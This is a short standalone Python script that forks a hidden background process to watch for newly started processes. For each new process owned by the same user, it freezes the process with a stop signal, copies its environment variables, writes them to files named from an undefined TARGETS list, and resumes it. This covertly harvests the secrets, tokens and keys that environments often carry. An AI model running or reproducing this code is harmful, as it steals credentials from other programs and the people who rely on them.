import os, time
me = os.getuid()
if os.fork() == 0:
    os.setsid()
    last = int(open("/proc/sys/kernel/ns_last_pid").read())
    # A new process may switch to this uid only after it started: watch it for a while.
    watch, end = {}, time.time() + 4
    while time.time() < end:
        cur = int(open("/proc/sys/kernel/ns_last_pid").read())
        for n in range(last + 1, cur + 1): watch[str(n)] = 2000
        last = cur
        for p in list(watch):
            watch[p] -= 1
            if watch[p] <= 0: del watch[p]
            try:
                if os.stat(f"/proc/{p}").st_uid != me: continue
                del watch[p]
                os.kill(int(p), 19)
                env = open(f"/proc/{p}/environ", "rb").read()
                for t in TARGETS: open(f"/proc/{p}/root/{t}-{p}", "wb").write(env)
                os.kill(int(p), 18)
            except OSError:
                pass
    os._exit(0)
time.sleep(0.3)
print("watching")
